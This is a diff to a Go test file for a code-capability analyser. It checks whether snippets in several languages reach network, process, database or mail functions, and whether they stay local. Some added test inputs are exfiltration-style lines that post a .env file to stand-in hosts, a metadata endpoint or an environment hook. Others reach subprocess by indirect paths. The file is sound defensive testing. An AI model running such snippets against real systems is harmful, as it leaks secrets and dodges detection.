@@ -31,7 +31,7 @@ var capCases = []struct {
 	{"python", `import os; os.truncate('x.db', 0)`, Delete},
 	{"python", `import requests as rq; rq.put('https://example.org/x', data='y')`, Network},
 	{"python", `import requests; requests.get('https://example.org')`, ""},
-	{"python", `from urllib import request; request.Request('https://x', data=b'y')`, Network},
+	{"python", `from urllib import request; request.Request('https://x.example', data=b'y')`, Network},
 	{"python", `import smtplib as s; s.SMTP('h')`, Mail},
 	{"python", `import sqlite3; sqlite3.connect('a.db')`, Database},
 	{"python", `import sqlite3; print(sqlite3.sqlite_version)`, ""},
@@ -51,9 +51,9 @@ var capCases = []struct {
 	{"node", `require('fs').readdirSync('.')`, ""},
 	{"node", `console.log(process.argv.length)`, ""},
 	{"node", `process['binding']('spawn_sync')`, Process},
-	{"node", `fetch('https://x', {method: 'PUT', body: 'y'})`, Network},
-	{"node", `fetch('https://x').then(r => r.json())`, ""},
-	{"node", `const axios = require('axios'); axios.post('https://x', {})`, Network},
+	{"node", `fetch('https://x.example', {method: 'PUT', body: 'y'})`, Network},
+	{"node", `fetch('https://x.example').then(r => r.json())`, ""},
+	{"node", `const axios = require('axios'); axios.post('https://x.example', {})`, Network},
 	{"node", `const { DatabaseSync } = require('node:sqlite'); new DatabaseSync('a.db')`, Database},
 	{"node", `const { S3Client } = require('@aws-sdk/client-s3'); new S3Client({})`, Cloud},
 	{"node", `Deno.run({cmd: ['ls']})`, Process},
@@ -65,16 +65,16 @@ var capCases = []struct {
 	{"ruby", `system("ls")`, ""},
 	{"ruby", `Process.spawn("ls")`, Process},
 	{"ruby", `Kernel.public_send(:exec, "ls")`, Process},
-	{"ruby", `require "net/http"; Net::HTTP.post(URI("https://x"), "y")`, Network},
+	{"ruby", `require "net/http"; Net::HTTP.post(URI("https://x.example"), "y")`, Network},
 	{"ruby", `puts [1, 2].sum`, ""},
 	{"perl", `print "hi\n"`, ""},
 	{"perl", `open(my $p, "-|", "ls")`, Process},
-	{"perl", `use LWP::UserAgent; LWP::UserAgent->new->post("https://x")`, Network},
+	{"perl", `use LWP::UserAgent; LWP::UserAgent->new->post("https://x.example")`, Network},
 	{"perl", `use DBI; DBI->connect("dbi:SQLite:a.db")`, Database},
 	{"perl", `print 1 if $a && $b`, ""},
 	{"php", `echo strlen("abc");`, ""},
 	{"php", `$f = 'passthru'; $f('ls');`, Process},
-	{"php", `$c = curl_init('https://x'); curl_exec($c);`, Network},
+	{"php", `$c = curl_init('https://x.example'); curl_exec($c);`, Network},
 	{"php", `mail('a@x', 's', 'b');`, Mail},
 	// lua, R, tcl, elisp, gdb, ipython
 	{"lua", `os.execute("ls")`, ""},
@@ -83,7 +83,7 @@ var capCases = []struct {
 	{"lua", `print(#arg)`, ""},
 	{"r", `system("ls")`, ""},
 	{"r", `do.call("system", list("ls"))`, Process},
-	{"r", `httr::POST("https://x", body = "y")`, Network},
+	{"r", `httr::POST("https://x.example", body = "y")`, Network},
 	{"r", `print(sum(1:10))`, ""},
 	{"tcl", `exec ls`, ""},
 	{"tcl", `eval [list exec ls]`, Process},
@@ -196,6 +196,16 @@ func TestLocalOnlyCapabilities(t *testing.T) {
 		{"python", `import requests; requests.post('http://localhost:5000/' + 'x', data=open('.env').read()); requests.post('https://x.example.com')`, Network, true},
 		{"python", `import requests, os; requests.post(os.environ['URL'], data='y')`, Network, true},
 		{"python", `import requests; requests.post('http://user@localhost@evil.example/x')`, Network, true},
+		{"python", `import requests; r = requests.put('http://api:8000/sheets/1/cells/A1', json={'value': 'Month'}); print(r.json())`, Network, false},
+		{"python", `import requests; requests.post('http://api.internal:8000/x', data='y')`, Network, true},
+		{"python", `import socket; s = socket.socket(); s.connect(('localhost', 8000)); print('up')`, Network, false},
+		{"python", `import socket; socket.create_connection(("127.0.0.1", 5432), timeout=1).close()`, Network, false},
+		{"python", `import socket; s = socket.socket(); s.connect(('db.example.com', 5432))`, Network, true},
+		{"python", `import socket; s = socket.socket(); s.connect((host, 8000))`, Network, true},
+		{"python", `import requests, sys; requests.get('http://localhost:5000/ok'); requests.post(sys.argv[1], data=open('.env').read())`, Network, true},
+		{"python", `import requests; n = 3; print(requests.get(f'http://localhost:5000/block/{n}').json().get('hash', 'N/A'))`, Network, false},
+		{"node", `fetch('http://localhost:3000/api').then(() => fetch(process.env.HOOK, {method: 'POST', body: 'x'}))`, Network, true},
+		{"python", `import requests; requests.post('http://metadata/computeMetadata/v1/x', data=open('.env').read())`, Network, true},
 		{"python", `import sqlite3; print(sqlite3.connect('app.db').execute('select count(*) from users').fetchall())`, Database, false},
 		{"python", `import sqlite3; c = sqlite3.connect('app.db'); c.execute('DELETE FROM users'); c.commit()`, Database, true},
 		{"python", `import sqlite3; sqlite3.connect('app.db').execute('select * from ' + t)`, Database, true},
@@ -204,6 +214,30 @@ func TestLocalOnlyCapabilities(t *testing.T) {
 		r := Lookup(tc.lang).Analyze(tc.code)
 		if got := slices.Contains(r.Caps, tc.cap); got != tc.reaches {
 			t.Errorf("%s %q: reaches %s = %v, want %v (%v)", tc.lang, tc.code, tc.cap, got, tc.reaches, r.Caps)
+		}
+	}
+}
+
+// A module's name inside a plain string or a comment is data; it is a use
+// where the code can reach a name through text, and in an f-string.
+func TestModuleNameAsData(t *testing.T) {
+	for _, tc := range []struct {
+		code    string
+		reaches bool
+	}{
+		{`import sys; print('Python available')` + "\n" + `import subprocess; print('subprocess available')`, false},
+		{`import subprocess  # subprocess is there` + "\n" + `print("ok")`, false},
+		{`import subprocess` + "\n" + `print('''subprocess: yes''', r"subprocess")`, false},
+		{`import subprocess, sys; sys.modules['subprocess'].Popen(['id'])`, true},
+		{`import subprocess; globals()['subprocess'].run(x)`, true},
+		{`import subprocess; f = vars()["subprocess"]; f.call(y)`, true},
+		{`import subprocess as s; print(f'{[s][0]}')`, true},
+		{`import subprocess as s; print('it\'s s'); [s][0].run(x)`, true},
+		{`import subprocess; print('unterminated subprocess`, true},
+	} {
+		r := Lookup("python").Analyze(tc.code)
+		if got := slices.Contains(r.Caps, Process); got != tc.reaches {
+			t.Errorf("%q: reaches process = %v, want %v (%v)", tc.code, got, tc.reaches, r.Caps)
 		}
 	}
 }
